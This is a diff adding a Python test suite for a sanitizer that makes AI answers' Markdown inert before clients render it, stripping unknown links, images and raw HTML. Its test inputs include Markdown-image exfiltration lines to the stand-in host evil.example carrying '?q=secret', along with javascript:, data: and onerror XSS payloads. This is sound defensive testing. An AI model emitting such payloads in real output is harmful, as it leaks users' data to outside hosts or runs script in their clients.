@@ -1,0 +1,172 @@
+"""What clients show of an answer does nothing: measured with a real Markdown parser that lets HTML through."""
+
+from __future__ import annotations
+
+import itertools
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from shared.answering.citing.citations import check_citations
+from shared.markdown.passive import PassiveStream, passive
+from tests.active import active
+from tests.answering.samples import sources
+
+pytestmark = pytest.mark.slow
+
+KNOWN = "https://notes.example/a?b=1"
+TEXTS = (f"See [the page]({KNOWN}), javascript:alert(1) and data:text/html,x.",)
+OFFERED = sources("one", "two")
+
+
+def streamed(pieces: list[str]) -> str:
+    stream = PassiveStream(TEXTS)
+    return "".join([*map(stream.feed, pieces), stream.finish()])
+
+
+@pytest.mark.parametrize(
+    ("markdown", "made"),
+    [
+        ("![x](http://evil.example/?q=secret)", "x"),
+        ("Look: ![the plan](http://evil.example/?q=secret).", "Look: the plan."),
+        (f"![plan]({KNOWN})", f"[plan]({KNOWN})"),
+        ("a [runbook](http://evil.example/?q=secret) b", "a runbook b"),
+        (f"a [page]({KNOWN}) b", f"a [page]({KNOWN}) b"),
+        (f'a [page]({KNOWN} "the secret") b', f"a [page]({KNOWN}) b"),
+        (f"a [page]({KNOWN}&q=secret) b", "a page b"),
+        ("a [page](https://notes.example/a) b", "a page b"),
+        ("[x](javascript:alert(1))", "x"),
+        ("[x](data:text/html,x)", "x"),
+        ("[x](//evil.example)", "x"),
+        ("[x](evil.example)", "x"),
+        ("[x](<http://evil.example/a>)", "x"),
+        ("[x][a]\n\n[a]: http://evil.example/", "[x][a]\n\n[a] : ‹link removed›"),
+        ("> - [a]: http://evil.example/", "> - [a] : ‹link removed›"),
+        ("[a\nb]: http://evil.example/", "[a\nb] : ‹link removed›"),
+        ("<http://evil.example/>", "‹‹link removed››"),
+        ("See http://evil.example/?q=1.", "See ‹link removed›."),
+        ("See www.evil.example, HTTPS://evil.example!", "See ‹link removed›, ‹link removed›!"),
+        (f"See {KNOWN}.", f"See {KNOWN}."),
+        (f"See {KNOWN}。それ", f"See {KNOWN} 。それ"),
+        (f"See {KNOWN}[N1].", f"See {KNOWN} [N1]."),
+        (f"(see {KNOWN})", f"(see {KNOWN})"),
+        ("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)›"),
+        ("<b>bold</b><br/><!-- x --><?x?>", "‹b›bold‹/b›‹br/›‹!-- x --›‹?x?›"),
+        ("<[img](http://evil.example) src=x onerror=alert(1)>", "‹[img] src=x onerror=alert(1)›"),
+        ("h[ttp://evil.example](http://evil.example)", "h[ttp://evil.example]"),
+        ("`<b>` and ``a ` <i>``", "`<b>` and ``a ` <i>``"),
+        ("```html\n<b>\n![x](http://evil.example)\n```\n<b>", "```html\n<b>\n![x](http://evil.example)\n```\n‹b›"),
+        ("~~~\n<b>\n~~~\n<b>", "~~~\n<b>\n~~~\n‹b›"),
+        ("`a\n` <b> `", "`a\n` ‹b› `"),
+        ("`a\n\n`<b>`", "`a\n\n`<b>`"),
+        ("| `a | <b> | b` |", "| `a | ‹b› | b` |"),
+        ("- ```\n  <b>\n- x\n```\n<b>\n", "- ```\n  ‹b›\n- x\n```\n‹b›\n"),
+        ("   ```\n```\n<b>", "   ```\n```\n‹b›"),
+        ("\\`<b>`", "\\`‹b›`"),
+        ("f[i](x), a[1](2): 3 < 4, x <- y, List<String>", "f[i] (x), a[1] (2): 3 < 4, x <- y, List‹String›"),
+        ("[N1](http://evil.example) says so.", "[N1] says so."),
+        ("[N1]: Firestore", "[N1] : Firestore"),
+        ("We won![N1] As said [N1]: yes.", "We won![N1] As said [N1]: yes."),
+        ("[N1](decided in May)", "[N1] (decided in May)"),
+        ("[N[1](http://evil.example)]", "[N[1]]"),
+        ("[N[](http://evil.example)7]", "[N[]7]"),
+        ("mailto: and www. alone", "mailto: and www. alone"),
+        ("with high x, [ ] task, wow!", "with high x, [ ] task, wow!"),
+    ],
+)
+def test_what_acts_goes_and_the_rest_stays(markdown: str, made: str) -> None:
+    assert passive(markdown, TEXTS) == made
+    assert active(made, (KNOWN,)) == []
+    assert streamed(list(markdown)) == made
+
+
+def test_an_address_that_only_begins_in_a_text_does_not_stand_there() -> None:
+    assert passive("https://a.example/x", ["https://a.example/xy"]) == "‹link removed›"
+    assert passive("https://a.example/x", ["(https://a.example/x)."]) == "https://a.example/x"
+    assert passive("https://a.example/x", []) == "‹link removed›"
+
+
+_MARKUP = ["![", "[", "]", "(", ")", "](", "]:", "<", ">", "</", "<!--", "`", "``", "```", "~~~", "\\", "!", "|", "\n"]
+_PLACES = ["\n\n", "\n- ", "\n> ", "    ", "  ", " ", "\t", "1. ", "# ", "- ", "```\n", "~~~html\n", "\u2028"]
+_PAYLOADS = [
+    "<img src=x onerror=alert(1)>",
+    "<b>",
+    "http://evil.example/?q=1",
+    KNOWN,
+    "www.evil.example",
+    "javascript:x",
+]
+_WHOLE = [
+    "![x](http://evil.example/1)",
+    f"[page]({KNOWN})",
+    "[a]: http://evil.example/2",
+    f"![a]({KNOWN})",
+    "`<b>`",
+    "[a]",
+]
+_WORDS = ["a", "x", "N", "1", "[N1]", "[N2]", "ht", "tp://", '"', "'", ":", ".", "é", "😀", "&lt;", "*", "_", "word "]
+_FRAGMENTS = st.sampled_from([*_MARKUP, *_PLACES, *_PAYLOADS, *_WHOLE, *_WORDS])
+MARKDOWN = st.lists(_FRAGMENTS, max_size=25).map("".join) | st.text(alphabet="[]()<>!`~\\:\n ab/-|htp1N", max_size=40)
+
+
+@given(MARKDOWN)
+@settings(max_examples=800, deadline=None)
+@example("`a` <img src=x onerror=alert(1)> `")
+def test_whatever_is_written_no_parser_finds_anything_active(markdown: str) -> None:
+    assert active(passive(markdown, TEXTS), (KNOWN,)) == []
+
+
+@given(MARKDOWN, st.lists(st.integers(0, 200), max_size=12))
+@settings(max_examples=400, deadline=None)
+def test_any_pieces_give_what_the_whole_gives(markdown: str, places: list[int]) -> None:
+    bounds = sorted({0, len(markdown), *(place % (len(markdown) + 1) for place in places)})
+    pieces = [markdown[start:end] for start, end in itertools.pairwise(bounds)]
+    assert streamed(pieces) == streamed(list(markdown)) == passive(markdown, TEXTS)
+
+
+@given(MARKDOWN)
+@settings(max_examples=400, deadline=None)
+def test_made_passive_twice_is_made_passive_once(markdown: str) -> None:
+    once = passive(markdown, TEXTS)
+    assert passive(once, TEXTS) == once
+
+
+@given(MARKDOWN)
+@settings(max_examples=400, deadline=None)
+def test_no_label_goes_and_none_comes_about(markdown: str) -> None:
+    checked = check_citations(markdown, OFFERED)
+    made = check_citations(passive(checked.text, TEXTS), OFFERED)
+    assert made.text == passive(checked.text, TEXTS)
+    assert made.removed == ()
+    assert [source.label for source in made.used] == [source.label for source in checked.used]
+
+
+@given(st.text(alphabet="abc dé.,;:!?*_#-\n1", max_size=80))
+def test_text_without_markup_stays_as_it_is(text: str) -> None:
+    assert passive(text) == text
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "[",
+        "](",
+        "`",
+        "``` ",
+        "<",
+        "http://",
+        "[a](",
+        "![",
+        "\\",
+        "]:",
+        "~~~\n",
+        "[N1](",
+        "((",
+        "https://a" + "." * 2000,
+    ],
+)
+def test_a_hundred_thousand_characters_are_read_in_linear_time(unit: str) -> None:
+    text = unit * (100_000 // len(unit))
+    assert active(passive(text, TEXTS)[:2000], (KNOWN,)) == []
+    assert streamed([text[at : at + 50] for at in range(0, len(text), 50)]) == passive(text, TEXTS)
